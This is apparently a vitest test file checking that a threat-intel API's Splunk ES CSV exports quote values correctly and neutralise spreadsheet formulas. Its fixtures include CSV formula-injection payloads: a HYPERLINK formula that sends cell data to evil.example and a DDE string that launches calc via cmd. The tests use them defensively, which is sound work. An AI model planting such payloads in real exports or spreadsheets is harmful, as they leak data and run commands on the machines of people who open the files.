/**
 * `GET /api/v1/exports/splunk/{ip,domain,http,file,email}.csv` over HTTP on every test database:
 * the Splunk ES column layouts, active IOCs only, pro only, the filters, and hostile feed text
 * (commas, quotes, line breaks, leading = + - @) read back by a standard CSV parser (csv-parse)
 * to exactly the rows meant: indicator values byte for byte, no description a live formula.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { IocCandidate, IocRecord } from '../../src/domain/ioc.js';
import { lookupDescription, LOOKUP_WEIGHTS, SPLUNK_LOOKUPS, type SplunkLookupName } from '../../src/export/splunk-lookups.js';
import { DATABASE_KINDS } from '../support/databases.js';
import { candidate, get, ingest, newKey, startApi, type RunningApi } from './support/server.js';

/** Text a spreadsheet or a naive CSV writer gets wrong. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1,2)',
  'comma, "quoted", and\nnew line\r\nCRLF',
  '\tleading tab',
  'ünïcödé — 東京',
];

const FORMULA_START = /^[=+\-@\t\r]/;

/** IOCs of every lookup type, hostile text in every description source, values that need quoting. */
function fixtures(): IocCandidate[] {
  const out: IocCandidate[] = [];
  const types = ['ipv4', 'ipv6', 'domain', 'url', 'md5', 'sha1', 'sha256', 'sha512', 'email'] as const;
  types.forEach((type, i) => {
    HOSTILE.forEach((text, k) => {
      const c = candidate(1000 + i * 100 + k, { type, confidence: (['high', 'medium', 'low'] as const)[k % 3] });
      out.push({ ...c, threat_type: text, malware: k % 2 ? text : null, context: text, source: { ...c.source, feed_name: `feed, "${k}"` } });
    });
  });
  const url = candidate(5000, { type: 'url' });
  out.push({ ...url, value: 'http://evil.example/a,b"c"?d=1\'e' });
  // E-mail local parts may start with formula characters: the value must still be exact.
  for (const [i, local] of ['=cmd', '-x', '+tag', '@at'].entries()) {
    const e = candidate(5100 + i, { type: 'email' });
    out.push({ ...e, value: `${local}@evil.example` });
  }
  const cidr = candidate(5200, { type: 'ipv4' });
  out.push({ ...cidr, value: '45.9.148.0/24' });
  out.push(candidate(5300, { type: 'cve' }), candidate(5301, { type: 'mitre-attack' }));
  return out;
}

describe.each(DATABASE_KINDS)('Splunk ES lookup CSVs (%s)', (kind) => {
  let api: RunningApi;
  let pro: string;
  let free: string;
  let records: IocRecord[];

  beforeAll(async () => {
    api = await startApi(kind);
    pro = (await newKey(api.deps, 'pro')).key;
    free = (await newKey(api.deps, 'free')).key;
    await ingest(api.store, fixtures());
    const revoked = await api.store.findByValue('domain', (fixtures().find((c) => c.type === 'domain') as IocCandidate).value);
    await api.store.setStatus(revoked?.id ?? '', 'revoked', new Date());
    const rows = await api.store.listIocs({ status: 'all', limit: 10_000 });
    records = rows.map((r) => JSON.parse(r.doc) as IocRecord);
  });
  afterAll(async () => {
    await api?.close();
  });

  async function lookup(name: SplunkLookupName, query = ''): Promise<{ res: Response; text: string }> {
    const res = await get(api, `/api/v1/exports/splunk/${name}.csv${query}`, pro);
    return { res, text: await res.text() };
  }

  it.each(Object.values(SPLUNK_LOOKUPS).map((l) => [l.name, l] as const))('%s.csv: the ES layout, active IOCs of its types, parsed back to the rows meant', async (name, layout) => {
    const { res, text } = await lookup(name);
    expect(res.status, text).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="socd_${name}_intel.csv"`);
    expect(res.headers.get('x-ratelimit-limit')).not.toBeNull();
    // ES wants the header exactly, no spaces after commas.
    expect(text.slice(0, text.indexOf('\r\n'))).toBe(layout.columns.join(','));

    const rows = parseCsv(text, { columns: true, relax_quotes: false }) as Array<Record<string, string>>;
    const expected = records.filter((r) => r.status === 'active' && layout.types.includes(r.type));
    expect(expected.length).toBeGreaterThan(0);
    expect(rows).toHaveLength(expected.length);
    for (const [i, r] of expected.entries()) {
      const row = rows[i] as Record<string, string>;
      expect(Object.keys(row)).toEqual([...layout.columns]);
      expect(row[layout.valueColumn]).toBe(r.value);
      const description = lookupDescription(r);
      expect(row.description).toBe(FORMULA_START.test(description) ? `'${description}` : description);
      expect(row.description).not.toMatch(FORMULA_START);
      expect(row.weight).toBe(String(LOOKUP_WEIGHTS[r.confidence]));
      for (const c of layout.columns) if (c !== 'description' && c !== 'weight' && c !== layout.valueColumn) expect(row[c]).toBe('');
    }
  });

  it('keeps hostile text intact inside descriptions and values exact, even when they start with a formula character', async () => {
    const { text } = await lookup('email');
    const rows = parseCsv(text, { columns: true }) as Array<Record<string, string>>;
    const values = rows.map((r) => r.src_user);
    for (const v of ['=cmd@evil.example', '-x@evil.example', '+tag@evil.example', '@at@evil.example']) expect(values).toContain(v);
    const http = parseCsv((await lookup('http')).text, { columns: true }) as Array<Record<string, string>>;
    expect(http.map((r) => r.url)).toContain('http://evil.example/a,b"c"?d=1\'e');
    const multiline = http.find((r) => r.description?.includes('new line'));
    expect(multiline?.description).toContain('comma, "quoted", and\nnew line\r\nCRLF');
    const ips = parseCsv((await lookup('ip')).text, { columns: true }) as Array<Record<string, string>>;
    expect(ips.map((r) => r.ip)).toContain('45.9.148.0/24');
    expect(ips.some((r) => r.ip?.includes(':'))).toBe(true);
  });

  it('leaves out revoked IOCs and takes the confidence filter', async () => {
    const revoked = records.find((r) => r.status === 'revoked');
    const domains = (await lookup('domain')).text;
    expect(revoked).toBeDefined();
    expect(domains).not.toContain(revoked?.value);
    const high = parseCsv((await lookup('domain', '?confidence=high')).text, { columns: true }) as Array<Record<string, string>>;
    expect(high.length).toBeGreaterThan(0);
    expect(high.every((r) => r.weight === '3')).toBe(true);
  });

  it('is a pro feature, rejects unknown parameters values, and takes the lookback', async () => {
    const res = await get(api, '/api/v1/exports/splunk/ip.csv', free);
    expect(res.status).toBe(403);
    expect(((await res.json()) as { error: { code: string } }).error.code).toBe('plan_upgrade_required');
    expect((await get(api, '/api/v1/exports/splunk/ip.csv')).status).toBe(401);
    // Tools that only do HTTP Basic (Splunk ES downloads): the key as password, user apikey.
    const basic = await get(api, '/api/v1/exports/splunk/ip.csv', undefined, { authorization: `Basic ${Buffer.from(`apikey:${pro}`).toString('base64')}` });
    expect(basic.status).toBe(200);
    expect((await get(api, '/api/v1/exports/splunk/cve.csv', pro)).status).toBe(404);
    expect((await get(api, '/api/v1/exports/splunk/ip.csv?confidence=extreme', pro)).status).toBe(400);
    expect((await get(api, '/api/v1/exports/splunk/ip.csv?since=2000-01-01', pro)).status).toBe(403);
  });

  it('streams a lookup larger than one store chunk', async () => {
    await ingest(
      api.store,
      Array.from({ length: 2500 }, (_, i) => candidate(20_000 + i, { type: 'sha256' })),
    );
    const rows = parseCsv((await lookup('file')).text, { columns: true }) as Array<Record<string, string>>;
    const stored = await api.store.countIocs({ status: 'active', types: ['md5', 'sha1', 'sha256', 'sha512'] });
    expect(rows).toHaveLength(stored);
    expect(new Set(rows.map((r) => r.file_hash)).size).toBe(stored);
  });
});
